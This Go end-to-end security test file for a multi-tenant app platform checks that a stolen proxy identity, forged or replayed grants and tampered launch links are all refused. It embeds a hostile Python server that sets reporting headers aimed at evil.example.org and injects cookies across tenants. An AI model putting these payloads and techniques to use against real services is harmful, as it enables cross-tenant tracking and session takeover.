package e2e_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"

	"berth.dev/berth/internal/chassis"
	"berth.dev/berth/internal/cluster"
	"berth.dev/berth/internal/embedded"
	"berth.dev/berth/internal/fault"
	"berth.dev/berth/internal/manager/seal"
	"berth.dev/berth/internal/membership"
	"berth.dev/berth/internal/wire/node"
	"berth.dev/berth/internal/wire/proxy"
	"berth.dev/berth/internal/wire/tunnel"
)

// rogue is an app proxy that somebody has taken over: it has a key and a certificate of the cluster and says what it likes.
type rogue struct {
	t      testing.TB
	name   string
	hub    string
	member *membership.Member
	conn   *http2.ClientConn
}

func rogueOf(t *testing.T, p *platform, dir, name, token string) *rogue {
	t.Helper()
	member, err := membership.Open(membership.Options{Dir: dir, Name: proxy.NamePrefix + name, Clock: chassis.RealClock(),
		Log: slog.New(slog.DiscardHandler), Token: func() (chassis.Secret, error) { return chassis.NewSecret(token), nil }})
	require.NoError(t, err)
	var status struct {
		Agents string `json:"agent_port"`
	}
	require.NoError(t, json.Unmarshal([]byte(p.must("status", "--json")), &status))
	r := &rogue{t: t, name: name, hub: status.Agents, member: member}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	require.NoError(t, member.EnsureJoined(ctx, r.hub))
	raw, err := (&tls.Dialer{Config: member.TLS(proxy.ALPN)}).DialContext(ctx, "tcp", r.hub)
	require.NoError(t, err)
	t.Cleanup(func() { _ = raw.Close() })
	r.conn, err = (&http2.Transport{}).NewClientConn(raw)
	require.NoError(t, err)
	return r
}

// stolen is the cluster's own app proxy, whose state somebody copied.
func stolen(t *testing.T, p *platform) *rogue {
	t.Helper()
	from, to := filepath.Join(p.dir, "appproxy", "node"), t.TempDir()
	require.NoError(t, os.CopyFS(to, os.DirFS(from)))
	text, err := os.ReadFile(filepath.Join(to, "node.crt"))
	require.NoError(t, err)
	block, _ := pem.Decode(text)
	require.NotNil(t, block)
	cert, err := x509.ParseCertificate(block.Bytes)
	require.NoError(t, err)
	name, ok := strings.CutPrefix(cert.Subject.CommonName, proxy.NamePrefix)
	require.True(t, ok, cert.Subject.CommonName)
	return rogueOf(t, p, to, name, "")
}

// joined is a second app proxy of the cluster, which an administrator let in.
func joined(t *testing.T, p *platform, name string) *rogue {
	t.Helper()
	made := p.run("", "admin", "join-token", "create", "--role", "appproxy", "--name", name)
	token := strings.TrimSpace(made.stdout)
	if made.code != 0 { // the cluster has one token for all
		text, err := os.ReadFile(filepath.Join(p.dir, "agent", "join.token"))
		require.NoError(t, err, made.stderr)
		token = strings.TrimSpace(string(text))
	}
	return rogueOf(t, p, t.TempDir(), name, token)
}

func (r *rogue) post(path string, body any) *http.Response {
	r.t.Helper()
	text, err := json.Marshal(body)
	require.NoError(r.t, err)
	req, err := http.NewRequestWithContext(r.t.Context(), http.MethodPost, "https://manager"+path, bytes.NewReader(text))
	require.NoError(r.t, err)
	resp, err := r.conn.RoundTrip(req)
	require.NoError(r.t, err)
	r.t.Cleanup(func() { _ = resp.Body.Close() })
	return resp
}

// learns is everything that a watch of the rogue tells at first.
func (r *rogue) learns(url string) (circuits []proxy.Circuit, keys [][]byte) {
	r.t.Helper()
	resp := r.post(proxy.PathWatch, proxy.WatchRequest{Instance: proxy.Instance{Node: "rogue", Version: proxy.Version, URL: url}})
	text := bufio.NewReaderSize(resp.Body, proxy.MaxLine)
	if resp.StatusCode != http.StatusOK {
		all, _ := io.ReadAll(text)
		require.Equal(r.t, http.StatusOK, resp.StatusCode, string(all))
	}
	for {
		line, err := text.ReadBytes('\n')
		require.NoError(r.t, err)
		var e proxy.Event
		require.NoError(r.t, json.Unmarshal(line, &e))
		circuits = append(circuits, e.Circuits...)
		if e.Keys != nil {
			keys = e.Keys
		}
		if e.Complete {
			return circuits, keys
		}
	}
}

// reach asks an agent's data port for a connection, over TCP with the rogue's certificate or over the socket of its host. The
// reason is why it was refused; "" means that the connection is there.
func (r *rogue) reach(at proxy.AgentAddress, socket bool, kernel cluster.KernelID, port, grant string) (reason string) {
	r.t.Helper()
	ctx, cancel := context.WithTimeout(r.t.Context(), patience)
	defer cancel()
	var conn net.Conn
	var err error
	if socket {
		conn, err = chassis.DialUnix(ctx, at.Socket)
	} else {
		conf, cerr := r.member.DialTLS(string(at.ID), node.ALPNData, nil)
		require.NoError(r.t, cerr)
		conn, err = (&tls.Dialer{Config: conf}).DialContext(ctx, "tcp", at.Address)
	}
	require.NoError(r.t, err)
	header := http.Header{}
	if grant != "" {
		header.Set(proxy.HeaderGrant, grant)
	}
	opened, err := tunnel.Open(ctx, conn, "/kernels/"+string(kernel)+"/ports/"+port, header)
	if err == nil {
		_ = opened.Close()
		return ""
	}
	require.NotEmpty(r.t, fault.ReasonOf(err), "%v", err)
	return fault.ReasonOf(err)
}

// grantKey is the manager's own signing key, which no app proxy ever has: with it the test writes what nobody should obey.
func (p *platform) grantKey() ed25519.PrivateKey {
	p.t.Helper()
	key, err := seal.LoadOrCreate(filepath.Join(p.dir, "manager", "master.key"), rand.Reader)
	require.NoError(p.t, err)
	sockets := embedded.SocketDir(p.dir, "pg", ".s.PGSQL.5432")
	db, err := pgx.Connect(p.t.Context(), (&url.URL{Scheme: "postgres", User: url.User("berth"), Path: "/berth",
		RawQuery: url.Values{"host": {sockets}}.Encode()}).String())
	require.NoError(p.t, err)
	defer func() { _ = db.Close(p.t.Context()) }()
	var sealed []byte
	var raw json.RawMessage
	require.NoError(p.t, db.QueryRow(p.t.Context(), `SELECT value FROM cluster_settings WHERE key = 'vault/app-grants'`).Scan(&raw))
	require.NoError(p.t, json.Unmarshal(raw, &sealed))
	text, err := key.Open(sealed, "vault/app-grants")
	require.NoError(p.t, err)
	var list []struct{ Key []byte }
	require.NoError(p.t, json.Unmarshal([]byte(text.Reveal()), &list))
	return ed25519.NewKeyFromSeed(list[0].Key)
}

// TestAttackAppProxy is what somebody can do who has taken over an app proxy: nothing but what its own circuits are for.
func TestAttackAppProxy(t *testing.T) {
	t.Parallel()
	p := up(t)
	demo, other := p.demo("demo"), p.demo("other")
	c := newConsole(t, p.env())
	app, echo := c.launch(demo, "web", "mode=subdomain"), c.launch(other, "web", "mode=subdomain")
	row, otherRow := c.circuit(demo, app), c.circuit(other, echo)
	own := stolen(t, p)
	mine, keys := own.learns("https://stolen.example.org")
	require.Len(t, mine, 2, "it has the circuits that it serves")
	at := func(id string) proxy.Circuit {
		for _, k := range mine {
			if k.ID == id {
				return k
			}
		}
		t.Fatalf("circuit %s is not among %+v", id, mine)
		return proxy.Circuit{}
	}
	circuit, second := at(row.ID), at(otherRow.ID)
	target := circuit.Targets[0]
	require.NotEmpty(t, target.Agent.Address)
	require.NotEmpty(t, target.Agent.Socket)

	evil := joined(t, p, "evil")
	t.Log("a circuit of another app proxy is not learnt")
	{
		circuits, others := evil.learns("https://evil.example.org")
		require.Empty(t, circuits)
		for _, key := range others {
			for _, k := range keys {
				require.NotEqual(t, k, key, "one key opens the apps of both")
			}
		}
		forged := proxy.SignTicket(proxy.Ticket{Circuit: circuit.ID, User: circuit.Owner, Epoch: circuit.Epoch,
			Expires: time.Now().Add(time.Hour)}, others[0])
		status, _, _ := newVisitor(t, "").get(app.Base+"/headers", "Authorization: Berth "+forged)
		require.Equal(t, 401, status, "a ticket that another app proxy signed")
		for _, q := range []proxy.LookupRequest{{Label: circuit.Label}, {Proxy: own.name, Label: circuit.Label}} {
			var reply proxy.LookupReply
			require.NoError(t, json.NewDecoder(evil.post(proxy.PathLookup, q).Body).Decode(&reply))
			require.Nil(t, reply.Circuit)
		}
		for _, q := range []proxy.Instance{{Name: own.name, Node: "x", URL: "https://evil2.example.org"}} {
			require.Equal(t, http.StatusForbidden, evil.post(proxy.PathWatch, proxy.WatchRequest{Instance: q}).StatusCode)
		}
	}
	t.Log("an agent obeys grants alone")
	{
		signed := func(change func(*proxy.Grant), key ed25519.PrivateKey) string {
			g, err := proxy.ReadGrant(target.Grant)
			require.NoError(t, err)
			change(&g)
			text, err := proxy.SignGrant(g, key)
			require.NoError(t, err)
			return text
		}
		require.Equal(t, "grant-missing", own.reach(target.Agent, false, target.Kernel, "22", ""), "a certificate alone opens another port")
		_, forger, err := ed25519.GenerateKey(rand.Reader)
		require.NoError(t, err)
		manager := p.grantKey()
		unchanged := func(*proxy.Grant) {}
		expired := func(g *proxy.Grant) { g.Expires = time.Now().Add(-time.Minute) }
		earlier := func(g *proxy.Grant) { g.Generation-- }
		kernel, port := target.Kernel, itoa(target.Port)
		for _, socket := range []bool{false, true} {
			require.Empty(t, own.reach(target.Agent, socket, kernel, port, target.Grant), "what it is for")
			for what, c := range map[string]struct {
				kernel             cluster.KernelID
				port, grant, wants string
			}{
				"a certificate alone":            {kernel, port, "", "grant-missing"},
				"another port of the kernel":     {kernel, "22", target.Grant, "grant-other-port"},
				"another kernel":                 {second.Targets[0].Kernel, port, target.Grant, "grant-other-kernel"},
				"another kernel's grant":         {kernel, port, second.Targets[0].Grant, "grant-other-kernel"},
				"a grant of its own making":      {kernel, port, signed(unchanged, forger), "grant-not-valid"},
				"a grant that was changed":       {kernel, port, target.Grant[:60] + flip(target.Grant[60:]), "grant-not-valid"},
				"a grant that has expired":       {kernel, port, signed(expired, manager), "grant-expired"},
				"the kernel in an earlier start": {kernel, port, signed(earlier, manager), "grant-other-generation"},
			} {
				require.Equal(t, c.wants, own.reach(target.Agent, socket, c.kernel, c.port, c.grant), "%s, socket %t", what, socket)
			}
		}
		require.Equal(t, "grant-other-proxy", evil.reach(target.Agent, false, kernel, port, target.Grant), "replayed by another app proxy")
	}
	t.Log("an ended circuit opens nothing although its session runs")
	{
		c.send(204, "DELETE", "/apps/circuits/"+row.ID, "")
		for _, socket := range []bool{false, true} {
			p.eventually("the agent refuses it", func() bool {
				return own.reach(target.Agent, socket, target.Kernel, itoa(target.Port), target.Grant) == "grant-circuit-ended"
			})
		}
	}
	t.Log("a session that has ended is reached no more")
	{
		p.must("session", "rm", "--yes", "other")
		k := second.Targets[0]
		p.eventually("the agent refuses it", func() bool {
			return own.reach(k.Agent, false, k.Kernel, itoa(k.Port), k.Grant) != ""
		})
	}
	p.must("session", "rm", "--yes", "demo")
	p.clean()
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

// flip changes the first character of a base64 text.
func flip(text string) string {
	if text[0] == 'A' {
		return "B" + text[1:]
	}
	return "A" + text[1:]
}

// TestAttackLaunchLinks: a link that opens an app works once, and for what it was made for.
func TestAttackLaunchLinks(t *testing.T) {
	t.Parallel()
	p := up(t)
	demo := p.demo("demo")
	c := newConsole(t, p.env())
	v := newVisitor(t, "")
	// link is the address that the web console opens.
	link := func() (start, address string) {
		var started struct {
			Token string `json:"token"`
			Addr  string `json:"wsproxy_addr"`
		}
		c.into(&started, 200, "POST", "/session/"+demo+"/start-service", `{"app":"web"}`)
		base := strings.TrimRight(started.Addr, "/") + "/v2/proxy/"
		status, text, _ := v.get(base + started.Token + "/" + demo + "/add?app=web&protocol=http")
		require.Equal(t, 200, status, text)
		var add struct{ URL string }
		require.NoError(t, json.Unmarshal([]byte(text), &add))
		require.NotContains(t, add.URL, started.Token, "the link holds more than what it opens")
		return base + "auth?session_id=" + demo + "&app=web&protocol=http&token=" + started.Token, add.URL
	}
	refused := func(address, slug string, words ...string) {
		t.Helper()
		status, text, _ := v.get(address, "Accept: application/json")
		require.Equal(t, 403, status, text)
		var problem map[string]any
		require.NoError(t, json.Unmarshal([]byte(text), &problem), text)
		require.Equal(t, slug, problem["error_code"], text)
		status, page, _ := v.get(address, "Accept: text/html")
		require.Equal(t, 403, status)
		for _, w := range append(words, "berth app open") {
			if w == "berth app open" && slug != "launch-used" {
				continue
			}
			require.Contains(t, page, w)
		}
	}
	start, address := link()
	for _, change := range []string{"&open_to_public=true", "&allowed_client_ips=0.0.0.0/0", "&mode=port", "&subdomain=mine", "&no_reuse=true",
		"&args=%7B%22--x%22%3A%221%22%7D", "&envs=%7B%22A%22%3A%221%22%7D", "&app_port=8081", "&port=20001"} {
		refused(address+change, "launch-changed", "made for app web", "open the app again")
	}
	other := strings.Replace(address, "app=web", "app=echo", 1)
	require.NotEqual(t, address, other)
	refused(other, "launch-changed", "made for app web")
	refused(start, "launch-used", "used already")
	refused(start+"&open_to_public=true", "launch-used", "used already")

	// What only looks at the link leaves it whole.
	require.Equal(t, 204, only(v.send("HEAD", address, "")))
	require.Equal(t, 204, only(v.get(address, "Sec-Purpose: prefetch")))
	guest := newVisitor(t, "")
	status, text, _ := guest.get(address, "Accept: text/html")
	require.Equal(t, 200, status, text)
	require.Contains(t, text, "It works")
	refused(address, "launch-used", "used already", "opens app web once")
	for _, k := range c.circuits(demo) {
		require.False(t, k.Public, "a changed link published the app: %+v", k)
	}
	p.must("session", "rm", "--yes", "demo")
	p.clean()
}

func only(status int, _ string, _ http.Header) int { return status }

// hostileApp answers with fields that would outlive it in a browser, and says which cookies reached it.
const hostileApp = `
import http.server, json, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"cookie": self.headers.get("Cookie", "")}).encode()
        self.send_response(200)
        for name, value in [("NEL", '{"report_to":"evil","max_age":31536000,"include_subdomains":true}'),
                            ("Report-To", '{"group":"evil","max_age":31536000,"endpoints":[{"url":"https://evil.example.org/"}]}'),
                            ("Reporting-Endpoints", 'default="https://evil.example.org/"'),
                            ("report_to", "{}"), ("Clear-Site-Data", '"cookies"'),
                            ("Set-Cookie", "sid=" + sys.argv[2] + "; Path=/"), ("Set-Cookie", "seen=1; Path=/; HttpOnly"),
                            ("Set-Cookie", "berth-own-x=1; Path=/"), ("Content-Length", str(len(body)))]:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
`

// runAs runs berth as somebody else than the administrator.
func (p *platform) runAs(env []string, args ...string) result {
	p.t.Helper()
	ctx, cancel := context.WithTimeout(p.t.Context(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary, args...)
	cmd.Env = append(p.environ(), env...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	if cmd.ProcessState == nil {
		require.NoError(p.t, err)
	}
	return result{stdout.String(), stderr.String(), cmd.ProcessState.ExitCode()}
}

// TestAttackHostileApp: what an app says to a browser ends with the app, and stays with its tenant.
func TestAttackHostileApp(t *testing.T) {
	t.Parallel()
	p := up(t)
	alice := newConsole(t, p.env())
	malloryEnv := p.member("mallory")
	mallory := newConsole(t, malloryEnv)
	mine := p.session("python", "mine")
	created := p.runAs(malloryEnv, "session", "create", "python", "--name", "theirs", "-r", "cpu=1", "-r", "mem=512m")
	require.Zero(t, created.code, created.stdout+created.stderr)
	var list []sessionRow
	require.NoError(t, json.Unmarshal([]byte(p.runAs(malloryEnv, "session", "list", "--json").stdout), &list))
	require.Len(t, list, 1)
	theirs := list[0].ID
	serve := func(env []string, session, value string) {
		r := p.runAs(env, "session", "exec", session, "--", "sh", "-c",
			"printf '%s' \"$0\" > /tmp/app.py; nohup python3 /tmp/app.py 8765 "+value+" >/dev/null 2>&1 &", hostileApp)
		require.Zero(t, r.code, r.stdout+r.stderr)
	}
	serve(p.env(), "mine", "alice")
	serve(malloryEnv, "theirs", "mallory")
	open := func(c *console, session, mode string) (app published) {
		p.eventually("the app listens", func() bool {
			var status int
			app, status, _ = c.tryLaunch(session, "port-8765", "mode="+mode)
			return status == 200
		})
		return app
	}
	says := func(v *visitor, app published) (cookie string, header http.Header) {
		status, text, header := v.get(app.Base + "/")
		require.Equal(t, 200, status, text)
		var got struct{ Cookie string }
		require.NoError(t, json.Unmarshal([]byte(text), &got), text)
		return got.Cookie, header
	}
	for _, mode := range modes {
		a, m := open(alice, mine, mode), open(mallory, theirs, mode)
		browser := newVisitor(t, "").enters(a).enters(m) // of somebody who uses both
		for range 2 {
			for _, app := range []published{a, m} {
				_, header := says(browser, app)
				for _, name := range []string{"NEL", "Report-To", "Reporting-Endpoints", "Report_to", "Clear-Site-Data"} {
					require.Empty(t, header.Values(name), "%s on a %s", name, mode)
				}
				require.NotContains(t, strings.Join(header.Values("Set-Cookie"), "\n"), "berth-own-x=", "an app speaks for the platform")
			}
		}
		// The last to set sid was mallory's app; alice's own cookie of that name is gone from the browser, and mallory's does not take
		// its place. What nobody overwrote comes back.
		cookie, _ := says(browser, a)
		require.NotContains(t, cookie, "mallory", "mode %s", mode)
		require.Contains(t, cookie, "seen=1")
		require.NotContains(t, cookie, "berth-")
		cookie, _ = says(browser, m)
		require.NotContains(t, cookie, "alice", "mode %s", mode)
	}
	p.must("session", "rm", "--yes", "mine")
	require.Zero(t, p.runAs(malloryEnv, "session", "rm", "--yes", "theirs").code)
	p.clean()
}
